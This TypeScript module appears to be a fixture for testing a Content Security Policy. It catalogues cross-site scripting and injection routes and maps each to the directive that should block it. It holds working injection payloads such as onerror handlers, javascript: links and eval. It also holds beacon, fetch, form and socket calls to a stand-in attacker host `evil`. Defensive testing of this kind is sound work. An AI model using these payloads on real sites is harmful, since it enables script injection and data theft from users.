/** A way out of a page, for somebody whose markup or script has got into it. */
export interface Way {
  readonly way: string;
  /** Code that the page runs, with `evil` for where a foreign server listens. */
  readonly attempt: string;
  /** The parts of the policy one of which tells that it has stopped it. */
  readonly stoppedBy: readonly string[];
}

const markup = (html: string): string =>
  `document.body.insertAdjacentHTML('beforeend', ${JSON.stringify(html)}.replaceAll('EVIL', evil));`;

export const ways: readonly Way[] = [
  {
    way: 'an inline script',
    attempt: `const made = document.createElement('script'); made.textContent = 'window.ran = 1'; document.body.append(made);`,
    stoppedBy: ['script-src-elem'],
  },
  {
    way: 'a script of another server',
    attempt: `const made = document.createElement('script'); made.src = evil + '/script.js'; document.body.append(made);`,
    stoppedBy: ['script-src-elem'],
  },
  {
    way: "a script of the page's own server without the nonce",
    attempt: `const made = document.createElement('script'); made.src = '/other.js'; document.body.append(made);`,
    stoppedBy: ['script-src-elem'],
  },
  {
    way: 'a script with a nonce that was guessed',
    attempt: `const made = document.createElement('script'); made.nonce = 'guess'; made.textContent = 'window.ran = 1'; document.body.append(made);`,
    stoppedBy: ['script-src-elem'],
  },
  {
    way: 'a handler in markup',
    attempt: markup(
      '<img src="x:y" onerror="window.ran = 1"><b onclick="window.ran = 1" autofocus onfocus="window.ran = 1" tabindex=0>x</b>',
    ),
    stoppedBy: ['script-src-attr', 'img-src'],
  },
  {
    way: 'a link that is a script',
    attempt: `const made = document.createElement('a'); made.href = 'javascript:window.ran=1'; document.body.append(made); made.click();`,
    stoppedBy: ['script-src-elem'],
  },
  { way: 'eval', attempt: `try { eval('window.ran = 1'); } catch {}`, stoppedBy: ['script-src'] },
  {
    way: 'a function made of text',
    attempt: `try { new Function('window.ran = 1')(); } catch {}`,
    stoppedBy: ['script-src'],
  },
  {
    way: 'a timer with text',
    attempt: `try { setTimeout('window.ran = 1', 0); } catch {}`,
    stoppedBy: ['script-src'],
  },
  { way: 'an image of another server', attempt: markup('<img src="EVIL/image.png">'), stoppedBy: ['img-src'] },
  {
    way: 'a picture with sources',
    attempt: markup('<picture><source srcset="EVIL/a.png 1x"><img srcset="EVIL/b.png 2x"></picture>'),
    stoppedBy: ['img-src'],
  },
  {
    way: 'a background by script',
    attempt: `document.body.style.backgroundImage = 'url(' + evil + '/background.png)';`,
    stoppedBy: ['img-src'],
  },
  {
    way: 'a style in markup',
    attempt: markup('<p style="background: url(EVIL/style.png)">x</p>'),
    stoppedBy: ['style-src-attr'],
  },
  {
    way: 'a sheet in markup',
    attempt: markup('<style>@import "EVIL/sheet.css"; body { background: url(EVIL/sheet.png) }</style>'),
    stoppedBy: ['style-src-elem'],
  },
  {
    way: 'a sheet of another server',
    attempt: markup('<link rel="stylesheet" href="EVIL/sheet.css">'),
    stoppedBy: ['style-src-elem'],
  },
  {
    way: 'a font',
    attempt: `void new FontFace('evil', 'url(' + evil + '/font.woff)').load().catch(() => 0);`,
    stoppedBy: ['font-src'],
  },
  { way: 'a request', attempt: `void fetch(evil + '/fetch').catch(() => 0);`, stoppedBy: ['connect-src'] },
  {
    way: 'an old request',
    attempt: `const made = new XMLHttpRequest(); made.open('GET', evil + '/xhr'); made.send();`,
    stoppedBy: ['connect-src'],
  },
  { way: 'a beacon', attempt: `navigator.sendBeacon(evil + '/beacon', 'x');`, stoppedBy: ['connect-src'] },
  {
    way: 'a socket',
    attempt: `try { new WebSocket(evil.replace('http', 'ws')); } catch {}`,
    stoppedBy: ['connect-src'],
  },
  { way: 'a stream of events', attempt: `new EventSource(evil + '/events');`, stoppedBy: ['connect-src'] },
  { way: 'a frame', attempt: markup('<iframe src="EVIL/frame"></iframe>'), stoppedBy: ['frame-src'] },
  {
    way: 'a frame with markup of its own',
    attempt: markup(`<iframe srcdoc="<script>parent.ran = 1</script>"></iframe>`),
    // In the frame's own document, which tells it to nobody here.
    stoppedBy: [],
  },
  {
    way: 'an object',
    attempt: markup('<object data="EVIL/object"></object><embed src="EVIL/embed">'),
    stoppedBy: ['object-src'],
  },
  {
    way: 'a film',
    attempt: markup('<video src="EVIL/film" autoplay></video><audio src="EVIL/sound" autoplay></audio>'),
    stoppedBy: ['media-src'],
  },
  {
    way: 'a form',
    attempt: `const made = document.createElement('form'); made.action = evil + '/form'; made.method = 'post'; document.body.append(made); made.submit();`,
    stoppedBy: ['form-action'],
  },
  {
    way: 'another base for addresses',
    attempt: `const made = document.createElement('base'); made.href = evil; document.head.append(made); const image = document.createElement('img'); image.src = 'based.png'; document.body.append(image);`,
    stoppedBy: ['base-uri'],
  },
  {
    way: 'a worker',
    attempt: `try { new Worker(URL.createObjectURL(new Blob(['fetch("' + evil + '/worker")']))); } catch {}`,
    stoppedBy: ['worker-src'],
  },
  {
    way: 'a page fetched ahead',
    attempt: markup(
      '<link rel="prefetch" href="EVIL/ahead"><link rel="preload" as="script" href="EVIL/ahead.js"><link rel="manifest" href="EVIL/manifest">',
    ),
    stoppedBy: ['default-src', 'script-src-elem', 'prefetch-src', 'manifest-src'],
  },
];
